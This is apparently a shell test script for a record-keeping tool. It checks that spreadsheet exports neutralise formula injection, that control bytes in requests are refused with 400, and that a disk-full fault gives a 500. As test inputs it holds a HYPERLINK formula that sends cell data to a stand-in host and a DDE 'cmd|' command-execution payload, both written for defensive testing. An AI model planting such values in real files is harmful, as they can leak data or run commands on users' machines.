# small_holes.sh: issue 17, point 8. Server faults are 5xx and bad input 4xx;
# a NUL or any control byte in a parameter is refused; CSV, HXL and XLSX
# exports never write a cell a spreadsheet would run as a formula, and the
# value is kept (import of the CSV gives the same records, same ids). The
# limit on failed sign-ins (per name and address, with backoff) is in
# security.sh.
. "$MUSTER_ROOT/tests/cli/lib.sh"
. "$ROOT/tests/cli/helpers/serve.sh"

$M --db h.db init --bundled > /dev/null 2>&1 || { fail "small_holes: init" "failed"; exit 0; }
printf 'editor pass 123\n' | $M --db h.db user add ed --role editor > /dev/null
# Text that spreadsheets run: a formula, a sum, a command, a plus, and a
# value that already starts with a quote before '='.
$M --db h.db add source --ref evil-src --publisher '=HYPERLINK("http://x.example/?"&A1,"click")' \
	--title '-2+3' --grade C --note "'=already quoted" > add.log 2>&1 || fail "small_holes: add" "$(cat add.log)"
$M --db h.db add source --ref evil-src-2 --publisher '@SUM(1+1)*cmd|'"' /C calc'"'!A0' \
	--title '+1' --grade C > add.log 2>&1 || fail "small_holes: add 2" "$(cat add.log)"

# ---- CSV and HXL ----
$M --db h.db export --format csv > all.csv || fail "small_holes: export csv" "failed"
expect_out "small_holes: csv: a formula gets a ' in front (quoted as CSV wants)" \
	'"'"'"'=HYPERLINK(""http://x.example/?""&A1,""click"")"' cat all.csv
expect_out "small_holes: csv: a text that starts with - gets a ' too" ",'-2+3," cat all.csv
expect_out "small_holes: csv: a text already starting with ' then = gets one more" ",''=already quoted," cat all.csv
expect_out "small_holes: csv: @ gets a '" "'@SUM(1+1)*cmd|" cat all.csv
expect_out "small_holes: csv: + gets a '" ",'+1," cat all.csv
bad=$(python3 -c '
import csv, sys
n = 0
for row in csv.reader(open("all.csv", newline="")):
    for cell in row:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not cell.lstrip("-").replace(".", "", 1).isdigit():
            n += 1
print(n)')
[ "$bad" = 0 ] && ok "small_holes: csv: no text cell starts with = + - @ tab or CR" || fail "small_holes: csv cells" "$bad"
$M --db back.db init > /dev/null
$M --db back.db import all.csv > imp.log 2>&1 || fail "small_holes: import the csv" "$(cat imp.log)"
[ "$(state back.db)" = "$(state h.db)" ] &&
	ok "small_holes: csv: imported back, the same records with the same ids (the chain head is the same)" ||
	fail "small_holes: csv round trip" "$(state back.db) vs $(state h.db)"
expect_json "small_holes: csv: the values are kept" "d['answer']['record']['publisher'], d['answer']['record']['note']" \
	"=HYPERLINK(\"http://x.example/?\"&A1,\"click\") '=already quoted" $M --db back.db show evil-src --json
$M --db h.db export --format hxl > all.hxl.csv || fail "small_holes: export hxl" "failed"
expect_out "small_holes: hxl: the same guard" ",'-2+3," cat all.hxl.csv
$M --db hb.db init > /dev/null
$M --db hb.db import --format hxl all.hxl.csv > imp.log 2>&1 || fail "small_holes: import hxl" "$(cat imp.log)"
expect_json "small_holes: hxl: the values come back" "d['answer']['record']['title']" "-2+3" $M --db hb.db show evil-src --json

# ---- XLSX: text cells are strings, never formulas ----
$M --db h.db export --format xlsx -o all.xlsx > /dev/null 2>&1 || fail "small_holes: export xlsx" "failed"
python3 - > xlsx.out <<'PY'
import re, zipfile
z = zipfile.ZipFile("all.xlsx")
formulas = sum(len(re.findall(r"<f[ >]", z.read(n).decode())) for n in z.namelist() if n.startswith("xl/worksheets/"))
text = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/"))
print(formulas, 't="inlineStr"><is><t>=HYPERLINK("http://x.example/?"&amp;A1,"click")</t>' in text)
PY
[ "$(cat xlsx.out)" = "0 True" ] &&
	ok "small_holes: xlsx: no cell is a formula; the value is kept as a text cell" || fail "small_holes: xlsx" "$(cat xlsx.out)"

# ---- the server: parameters and status codes ----
start_server h.db || { fail "small_holes: the server starts" "$(tail -3 serve.log)"; exit 0; }
# param QUERY STATUS ERROR: /api/v1/strength?QUERY answers STATUS with ERROR.
param() {
	code=$($C -o p.json -w '%{http_code}' "$U/api/v1/strength?$1")
	got=$(python3 -c 'import json; print(json.load(open("p.json")).get("error", ""))' 2>&1)
	[ "$code" = "$2" ] && [ "$got" = "$3" ] && ok "small_holes: ?$1 answers $2" || fail "small_holes: ?$1" "$code $got"
}
param 'as_of=2025-01-01%00x' 400 'parameter "as_of": its value holds a control character (byte 11 is 0x00): send it without it'
param 'as_of=2025-01-01%00' 400 'parameter "as_of": its value holds a control character (byte 11 is 0x00): send it without it'
param 'as_of=2025-01-01%0A' 400 'parameter "as_of": its value holds a control character (byte 11 is 0x0a): send it without it'
param 'as_of=2025-01-01%7F' 400 'parameter "as_of": its value holds a control character (byte 11 is 0x7f): send it without it'
param 'as%00_of=2025-01-01' 400 'parameter "as?_of": its name holds a control character (byte 3 is 0x00): send it without it'
param 'as_of=2025-01-01x' 400 '--as-of: "2025-01-01x" is not a day (write YYYY-MM-DD, e.g. 2025-01-04)'
param 'mission=MSS-HTI%09' 400 'parameter "mission": its value holds a control character (byte 8 is 0x09): send it without it'
param 'as_of=2025-01-01' 200 ''
code=$($C -o /dev/null -w '%{http_code}' "$U/strength?lang=fr%00")
[ "$code" = 400 ] && ok "small_holes: a page's lang with a NUL is refused (400)" || fail "small_holes: lang NUL" "$code"

signin ed.jar ed 'editor pass 123' > /dev/null
code=$(post ed.jar /add/source f.html ref=ctl-src publisher=P title="$(printf 'A\001B')" grade=C)
[ "$code" = 400 ] && [ "$(alert f.html)" = "field title contains a control character (0x01): send it without it" ] &&
	ok "small_holes: a form field with a control character is refused (400)" || fail "small_holes: form control" "$code $(alert f.html)"
code=$(post ed.jar /add/source f.html ref=tab-src publisher=P title="$(printf 'Line one\nline two')" grade=C)
[ "$code" = 201 ] && ok "small_holes: a form field with a line break is taken" || fail "small_holes: form newline" "$code $(alert f.html)"
code=$(post ed.jar /add/source f.html ref=bad-src publisher=P title=T grade=Z)
[ "$code" = 400 ] && ok "small_holes: bad input in a form is 400" || fail "small_holes: bad form" "$code"
stop_server

# A full disk (injected: the file cannot grow) is the server's fault: 500,
# the form shown again with the reason (never the server's path), nothing written.
before=$(state h.db)
MUSTER_FAULT=disk-full start_server h.db || { fail "small_holes: the server starts (full disk)" "$(tail -3 serve.log)"; exit 0; }
signin ed.jar ed 'editor pass 123' > /dev/null
note=$(python3 -c 'print("x" * 40000)')
code=$(post ed.jar /add/source f.html ref=big-src publisher=P title=T grade=C "note=$note")
[ "$code" = 500 ] && [ "$(alert f.html)" = "the record file: appending to the log: database or disk is full" ] &&
	ok "small_holes: a full disk on a POST answers 500 naming it" || fail "small_holes: full disk" "$code $(alert f.html)"
grep -q "muster: serve: the record file: appending to the log: database or disk is full" serve.log &&
	ok "small_holes: the fault is written to the server's log" || fail "small_holes: fault logged" "$(tail -3 serve.log)"
stop_server
[ "$(state h.db)" = "$before" ] && ok "small_holes: nothing was written" || fail "small_holes: full disk wrote" "$(state h.db)"
